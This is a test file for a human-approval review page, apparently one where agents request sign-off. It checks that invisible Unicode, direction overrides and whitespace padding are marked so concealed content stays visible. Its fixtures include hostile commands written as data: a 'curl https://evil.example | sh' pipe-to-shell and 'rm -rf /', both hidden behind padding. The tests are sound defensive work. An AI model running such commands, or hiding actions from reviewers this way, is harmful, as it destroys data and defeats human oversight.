import { afterAll, beforeAll, expect, test } from 'vitest';
import { createApproval, createFixture, type Fixture } from '../../fixtures/client/fixture.ts';
import type { Input } from '../../fixtures/client/mutations.ts';
import { mustSucceed } from '../../fixtures/client/mutations.ts';
import { visit } from '../../fixtures/client/page.ts';
import { signIn } from '../../fixtures/client/sign-in.ts';

let fixture: Fixture;
let session: { readonly cookie: string };

beforeAll(async () => {
  fixture = await createFixture();
  session = await signIn(fixture, 'reviewer');
});
afterAll(() => fixture.close());

const pageOf = (id: string) => new URL(`/a/${id}`, fixture.reviewer.url).href;

async function shown(input: Input): Promise<string> {
  const { text } = await visit(pageOf(await createApproval(fixture.agent, input)), session);
  return text;
}

const mark = (what: string) => `<mark class="unseen">${what}</mark>`;

test('wherever text of others stands, characters that nobody sees are marked, and none is sent', async () => {
  const hostile = (where: string) => `${where}\u202Etxt\u200B\u200B`;
  await mustSucceed(fixture.admin, 'createPrincipal', {
    handle: 'hostile-reviewer',
    kind: 'HUMAN',
    role: 'REVIEWER',
    displayName: hostile('display name '),
  });
  const { task } = await mustSucceed(fixture.agent, 'createTask', { name: 'Files' });
  const file = new File([`${hostile('preview ')}`], 'plain.txt', { type: 'text/plain' });
  const { file: uploaded } = await mustSucceed(fixture.agent, 'uploadFile', { taskId: task?.id, file });
  const id = await createApproval(fixture.agent, {
    taskId: task?.id,
    attachmentIds: [uploaded?.id],
    action: hostile('action '),
    summary: `${hostile('summary ')} **${hostile('bold ')}** \`${hostile('code ')}\` [${hostile('link ')}](https://example.com/)`,
    requestedBy: hostile('requested by '),
    params: {
      [hostile('param name ')]: hostile('param value '),
      rows: [{ [hostile('column ')]: hostile('cell ') }],
    },
    paramsSchema: { type: 'object', properties: { rows: { title: hostile('title ') } } },
    context: {
      text: `${hostile('context ')}\n${hostile('second line ')}`,
      deep: { a: { b: { c: { d: hostile('deep ') } } } },
    },
    keyValueContext: { [hostile('key ')]: hostile('value ') },
    recommendation: {
      outcome: { type: 'REJECT', note: hostile('advice ') },
      rationale: hostile('rationale '),
    },
  });
  await mustSucceed(fixture.reviewer, 'sendMessage', { approvalId: id, content: hostile('message ') });
  await mustSucceed(fixture.reviewer, 'respond', {
    id,
    decision: { delegate: { to: 'hostile-reviewer', reason: hostile('reason ') } },
  });
  const { text } = await visit(pageOf(id), session);
  const marked = text.split(mark('U+202E'));
  const places = [
    ...['action ', 'summary ', 'bold ', 'code ', 'link ', 'requested by ', 'param name ', 'param value '],
    ...['column ', 'cell ', 'title ', 'context ', 'second line ', 'key ', 'value ', 'advice ', 'rationale '],
    ...['message ', 'reason ', 'display name ', 'preview '],
  ];
  expect(places.filter((place) => !marked.some((before) => before.endsWith(place)))).toEqual([]);
  expect(text).toContain(mark('U+200B ×2'));
  expect(text).toContain(
    `<small class="as-sent">As sent: <bdi>param value ${mark('U+202E')}txt${mark('U+200B ×2')}</bdi></small>`,
  );
  // JSON escapes them in its own way, and a title has no mark-up.
  expect(text).toContain(String.raw`deep \u202etxt\u200b\u200b`);
  expect(text).toContain('<title>action [U+202E]txt[U+200B ×2] · Countersign</title>');
  expect(text.replace(/<textarea.*?<\/textarea>|<input[^>]*>/gs, '')).not.toMatch(/[\u202E\u200B]/);
});

test('values and names of others keep their direction to themselves', async () => {
  const text = await shown({ params: { שם: 'שלום', n: 5 }, context: { lines: 'a\nשלום' } });
  expect(text).toMatch(/<dt><code class="name"><bdi>שם<\/bdi><\/code><\/dt>\s*<dd><bdi>שלום<\/bdi><\/dd>/);
  expect(text).toContain('<dd><bdi>5</bdi></dd>');
  expect(text).toContain('<pre class="text" dir="auto">a\nשלום</pre>');
});

test('the end of a command cannot be pushed out of sight', async () => {
  const text = await shown({
    params: {
      command: `ls -la${' '.repeat(400)}; curl https://evil.example | sh`,
      script: `ls\n${'\n'.repeat(90)}rm -rf /`,
    },
    summary: `\`\`\`\nls${' '.repeat(300)}; rm\n\`\`\``,
  });
  expect(text).toContain(`ls -la${mark('400 spaces')}; curl https://evil.example | sh`);
  expect(text).toContain(`ls\n${mark('90 empty lines')}\nrm -rf /`);
  expect(text).toContain(`ls${mark('300 spaces')}; rm`);
  expect(text).toContain('pre { margin: 0; white-space: pre-wrap; overflow-wrap: anywhere }');
});

test('emoji and scripts that join their letters are not torn apart', async () => {
  const text = await shown({ params: { words: '👩\u200D💻 ❤\uFE0F می\u200Cخواهم क्\u200Dष' } });
  expect(text).toContain('<bdi>👩\u200D💻 ❤\uFE0F می\u200Cخواهم क्\u200Dष</bdi>');
});

test('what a question suggests is marked where something in it cannot be seen', async () => {
  const { elicitation } = await mustSucceed(fixture.agent, 'createElicitation', {
    message: 'Whom to pay?\u202E',
    responseSchema: { type: 'object', properties: { iban: { type: 'string', default: 'DE89\u200B3704' } } },
  });
  const { text } = await visit(new URL(`/e/${elicitation?.id}`, fixture.reviewer.url).href, session);
  expect(text).toContain(`Whom to pay?${mark('U+202E')}`);
  expect(text).toContain(`<small class="as-sent">As sent: <bdi>DE89${mark('U+200B')}3704</bdi></small>`);
});
